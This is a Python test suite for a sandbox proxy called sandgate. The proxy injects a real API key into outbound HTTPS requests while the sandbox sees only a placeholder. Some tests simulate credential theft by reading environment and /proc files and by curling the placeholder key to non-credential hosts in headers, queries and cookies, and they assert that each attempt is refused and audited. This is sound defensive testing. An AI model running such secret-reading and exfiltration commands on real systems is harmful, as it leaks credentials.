"""`sandgate run` with a credential: the sandbox trusts sandgate's CA, holds only a
placeholder, and its HTTPS request reaches the upstream with the real secret injected. Two
sandboxes running at once with different policies cannot use each other's permissions.
Runs as root (or where unprivileged user namespaces are allowed)."""

import json
import os
import shutil
import subprocess
import tempfile
import unittest

import artifacts
from pki import test_pki
from run_support import namespaces_refused, run_bounded
from sandgate_fixture import binary
from upstreams import HttpUpstream

SECRET = "sk-sandboxsecret-5f0c2a9e7b13d4c68e21"


def _authorizations(requests):
    return [v for r in requests for k, v in r["headers"] if k.lower() == "authorization"]


class RunCredentialsTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.pki = test_pki()
        cls.https = HttpUpstream(cls.pki)
        cls.plain = HttpUpstream()
        artifacts.register_secret("sandbox-api", SECRET)
        cls.dir = tempfile.mkdtemp(prefix="sandgate-runcred-")
        os.chmod(cls.dir, 0o755)
        cls.workspace = os.path.join(cls.dir, "ws")
        os.mkdir(cls.workspace)
        os.chmod(cls.workspace, 0o777)  # the command runs as an unprivileged uid
        cls.secret_file = os.path.join(cls.dir, "api.key")
        with open(os.open(cls.secret_file, os.O_WRONLY | os.O_CREAT, 0o600), "w") as f:
            f.write(SECRET + "\n")
        cls.ca_out = os.path.join(cls.dir, "sandgate-ca.pem")
        cls.config = os.path.join(cls.dir, "sandgate.yaml")
        rule = {"host": "api.test", "cidrs": ["127.0.0.0/8"]}
        # Hosts the keyed task may reach but the credential does not name: one intercepted
        # (inspect), one over plain HTTP.
        elsewhere = [{"host": "other.test", "cidrs": ["127.0.0.0/8"], "inspect": True},
                     {"host": "plain.test", "ports": [80], "cidrs": ["127.0.0.0/8"]}]
        cfg = {
            "ca_cert_out": cls.ca_out,
            "tls": {"upstream_ca": cls.pki.ca_cert},
            "credentials": {"api": {
                "source": {"file": cls.secret_file}, "hosts": ["api.test"],
                "inject": {"header": "Authorization", "value": "Bearer {secret}"},
                "placeholder": "API_KEY"}},
            "policies": {
                "with-key": {"allow": [dict(rule, credential="api")] + elsewhere},
                "plain": {"allow": [dict(rule)]},  # api.test allowed, but no credential
                "nothing": {"allow": []},
            },
            "tasks": [{"name": "keyed", "policy": "with-key"},
                      {"name": "plain", "policy": "plain"},
                      {"name": "none", "policy": "nothing"}],
            "resolve": {"api.test": f"127.0.0.1:{cls.https.port}",
                        "other.test": f"127.0.0.1:{cls.https.port}",
                        "plain.test": f"127.0.0.1:{cls.plain.port}"},
            "audit": {"path": os.path.join(cls.dir, "audit.log")},
        }
        with open(cls.config, "w") as f:
            json.dump(cfg, f)
        probe = cls.sandgate("keyed", "true")
        if probe.returncode == 125 and namespaces_refused(probe.stderr):
            cls.https.close()
            cls.plain.close()
            raise unittest.SkipTest("this host refuses namespaces: " + probe.stderr.strip())

    @classmethod
    def tearDownClass(cls):
        cls.https.close()
        cls.plain.close()
        artifacts.record_file("audit", "audit.log", os.path.join(cls.dir, "audit.log"))
        shutil.rmtree(cls.dir, ignore_errors=True)

    @classmethod
    def sandgate(cls, task, script, timeout=60, popen=False):
        cmd = [binary(), "run", "--config", cls.config, "--workspace", cls.workspace,
               "--task", task, "--", "sh", "-c", script]
        if popen:
            return subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                    text=True)
        r = run_bounded(cmd, timeout)
        cls.record(r.stdout, r.stderr)
        return r

    @staticmethod
    def record(stdout, stderr):
        artifacts.record("run", "stdout", stdout)
        artifacts.record("log", "run-stderr", stderr)

    def test_https_request_gets_the_secret_injected_and_the_sandbox_only_a_placeholder(self):
        before = len(self.https.requests)
        r = self.sandgate("keyed", 'printf "%s\\n" "$API_KEY"; '
                          'curl -sS https://api.test/echo -H "Authorization: Bearer $API_KEY"')
        self.assertEqual(r.returncode, 0, r.stderr)
        placeholder, body = r.stdout.split("\n", 1)
        # Format-preserving: same prefix and length as the real key, but not the key.
        self.assertNotEqual(placeholder, SECRET)
        self.assertTrue(placeholder.startswith("sk-"), placeholder)
        self.assertEqual(len(placeholder), len(SECRET))
        # The upstream got exactly one request, with the real secret in place of the placeholder.
        new = self.https.requests[before:]
        self.assertEqual(len(new), 1)
        self.assertEqual(_authorizations(new), ["Bearer " + SECRET])
        # What came back to the sandbox is the echo, scrubbed: the placeholder, never the secret.
        self.assertNotIn(SECRET, body)
        echoed = dict((k.lower(), v) for k, v in json.loads(body)["headers"])
        self.assertEqual(echoed["authorization"], "Bearer " + placeholder)

    def test_sandbox_trusts_sandgates_ca_through_every_ca_variable(self):
        names = ["SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS",
                 "GIT_SSL_CAINFO", "PIP_CERT", "CARGO_HTTP_CAINFO", "DENO_CERT",
                 "AWS_CA_BUNDLE", "npm_config_cafile"]
        script = "; ".join(f'echo "{n}=${n}"' for n in names) + '; cat "$SSL_CERT_FILE"'
        r = self.sandgate("keyed", script)
        self.assertEqual(r.returncode, 0, r.stderr)
        lines = r.stdout.splitlines()
        paths = {l.split("=", 1)[1] for l in lines[:len(names)]}
        self.assertEqual(len(paths), 1, lines[:len(names)])
        self.assertNotIn("", paths)
        # The bundle holds the CA of this run's proxy (an ephemeral CA: ca_cert_out is
        # rewritten by every run).
        with open(self.ca_out) as f:
            ca = f.read().strip()
        self.assertTrue(ca.startswith("-----BEGIN CERTIFICATE-----"))
        self.assertTrue(ca in r.stdout, "sandgate's CA is not in $SSL_CERT_FILE")

    def test_real_secret_is_nowhere_in_the_sandbox_environment(self):
        r = self.sandgate("keyed", "env; echo ---; tr '\\0' '\\n' </proc/self/environ; "
                          "echo ---; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("API_KEY=sk-", r.stdout)
        self.assertNotIn(SECRET, r.stdout)
        self.assertNotIn(SECRET, r.stderr)
        # The credential file is hidden from the sandbox.
        r = self.sandgate("keyed", f"cat {self.secret_file}")
        self.assertNotEqual(r.returncode, 0)
        self.assertNotIn(SECRET, r.stdout)

    def test_task_without_the_credential_gets_no_placeholder_and_no_injection(self):
        before = len(self.https.requests)
        r = self.sandgate("plain", 'echo "key=${API_KEY:-unset}"; '
                          "curl -sS https://api.test/echo -o /dev/null -w '%{http_code}\\n'; true")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("key=unset", r.stdout)
        # A plain tunnel: curl verifies the upstream's own test-CA certificate, which the
        # sandbox does not trust, so the request fails in the sandbox and nothing is injected.
        self.assertNotIn(SECRET, "".join(_authorizations(self.https.requests[before:])))

    def test_placeholder_sent_to_another_host_is_refused_and_audited(self):
        # The sandbox sends its placeholder where the credential may never go: in a header
        # inside an intercepted tunnel, in the query and in a header of plain-HTTP requests.
        # Each is refused before anything reaches an upstream, and audited as the tripwire.
        before_https, before_plain = len(self.https.requests), len(self.plain.requests)
        # Status and the refusal's reason header (empty when there is none), one line each.
        code = "curl -sS -o /dev/null -w '%{http_code} %header{x-sandgate-reason}\\n' "
        r = self.sandgate("keyed", "; ".join([
            code + 'https://other.test/echo/tripwire -H "Authorization: Bearer $API_KEY"',
            code + '"http://plain.test/echo/tripwire-query?key=$API_KEY"',
            code + 'http://plain.test/echo/tripwire-header -H "X-Note: $API_KEY"']))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout.split("\n")[:3], ["403 credential_host_mismatch"] * 3,
                         r.stderr)
        self.assertEqual(r.stderr.count("possible exfiltration attempt refused"), 3, r.stderr)
        self.assertEqual(self.https.requests[before_https:], [])
        self.assertEqual(self.plain.requests[before_plain:], [])
        with open(os.path.join(self.dir, "audit.log")) as f:
            audit = [json.loads(line) for line in f if line.strip()]
        trips = [a for a in audit if (a.get("path") or "").startswith("/echo/tripwire")]
        self.assertEqual(sorted((a["host"], a["path"]) for a in trips),
                         [("other.test", "/echo/tripwire"),
                          ("plain.test", "/echo/tripwire-header"),
                          ("plain.test", "/echo/tripwire-query")])
        for a in trips:
            self.assertEqual((a["verdict"], a["reason"], a["credential"], a["status"]),
                             ("deny", "credential_host_mismatch", "api", 403), a)
        # Still reachable without the placeholder: the refusals were the placeholder's.
        r = self.sandgate("keyed", code + "http://plain.test/echo/no-placeholder")
        self.assertEqual(r.stdout.split(), ["200"], r.stderr)  # and no reason header

    def test_placeholder_outside_the_injected_header_is_refused(self):
        # On the credential's own host, the sandbox puts its placeholder where the host would
        # store it (a user agent, a cookie, a query parameter) to read the key back later.
        # Only the Authorization header (where the secret is injected) honours it.
        before = len(self.https.requests)
        code = "curl -sS -o /dev/null -w '%{http_code} %header{x-sandgate-reason}\\n' "
        r = self.sandgate("keyed", "; ".join([
            code + 'https://api.test/echo/misplaced-ua -A "agent/$API_KEY"',
            code + 'https://api.test/echo/misplaced-cookie -H "Cookie: s=$API_KEY"',
            code + '"https://api.test/echo/misplaced-query?note=$API_KEY"']))
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout.split("\n")[:3], ["403 placeholder_misplaced"] * 3, r.stderr)
        self.assertEqual(self.https.requests[before:], [])
        with open(os.path.join(self.dir, "audit.log")) as f:
            audit = [json.loads(line) for line in f if line.strip()]
        trips = [a for a in audit if (a.get("path") or "").startswith("/echo/misplaced-")]
        self.assertEqual(len(trips), 3, trips)
        for a in trips:
            self.assertEqual((a["verdict"], a["reason"], a["credential"], a["status"]),
                             ("deny", "placeholder_misplaced", "api", 403), a)
            self.assertIn("possible exfiltration attempt", a["error"])
        self.assertNotIn(SECRET, json.dumps(audit))

    def test_concurrent_sandboxes_do_not_share_permissions(self):
        # Both run at once, each several requests: the keyed one is always allowed with its
        # secret injected, the other is always refused. Bounded: 5 requests each.
        loop = ("for i in 1 2 3 4 5; do curl -sS -o /dev/null -w '%{http_code}\\n' "
                "https://api.test/echo; sleep 0.1; done")
        keyed = self.sandgate("keyed", loop, popen=True)
        none = self.sandgate("none", loop, popen=True)
        out_keyed, err_keyed = keyed.communicate(timeout=60)
        out_none, err_none = none.communicate(timeout=60)
        self.record(out_keyed, err_keyed)
        self.record(out_none, err_none)
        self.assertEqual(keyed.returncode, 0, err_keyed)
        self.assertEqual(out_keyed.split(), ["200"] * 5, err_keyed)
        self.assertEqual(out_none.split(), ["000"] * 5)  # CONNECT refused: curl reports 000
        self.assertIn("403", err_none)


if __name__ == "__main__":
    unittest.main()
